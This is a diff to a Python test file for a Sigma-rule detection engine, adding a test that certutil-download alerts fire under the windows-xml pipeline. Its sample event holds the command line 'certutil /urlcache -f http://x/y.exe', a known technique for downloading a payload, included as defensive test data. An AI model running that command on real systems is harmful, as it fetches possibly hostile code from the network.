@@ -3,6 +3,7 @@ into the very rules it runs for the Sigma files (same canonical text, same versi
 
 from __future__ import annotations
 
+import json
 import subprocess
 import sys
 from pathlib import Path
@@ -128,3 +129,29 @@ def test_unsupported_correlation_is_left_out_with_a_warning(tmp_path: Path) -> N
     rs = load_rule_set([str(yml)])
     assert rs.ok and [r.name for r in rs.rules] == ["with_correlation"]
     assert rs.rules[0].key_names == ("Computer",)
+
+
+SAMPLE = {"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
+                    "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe",
+                                  "CommandLine": "certutil /urlcache -f http://x/y.exe"}},
+          "ts": 1000}
+
+
+@pytest.mark.parametrize("command", ["run", "replay"])
+def test_run_and_replay_take_the_sigma_pipeline(tmp_path: Path, command: str) -> None:
+    (tmp_path / "proc_creation_win_certutil_download.yml").write_text(RULE, encoding="utf-8")
+    events = tmp_path / "events.jsonl"
+    events.write_text(json.dumps(SAMPLE) + "\n", encoding="utf-8")
+    out = {}
+    for label, extra in (("plain", []), ("xml", ["--sigma-pipeline", "windows-xml"])):
+        alerts = tmp_path / f"{label}.jsonl"
+        done = subprocess.run([sys.executable, "-m", "cep.cli", command, "-r", str(tmp_path),
+                               "-i", str(events), "-o", str(alerts), "-q", *extra],
+                              capture_output=True, cwd=ROOT, check=False)
+        assert done.returncode == 0, done.stderr
+        out[label] = [json.loads(line) for line in alerts.read_text().splitlines()]
+    assert out["plain"] == []  # the rule's fields are under Event.EventData
+    [alert] = out["xml"]
+    assert alert["data"]["sigma_id"] == "19b08b1c-861d-4e75-a1ef-ea0c1baf202b"
+    assert alert["severity"] == "high"
+    assert alert["data"]["author"] == "Florian Roth (Nextron Systems)"
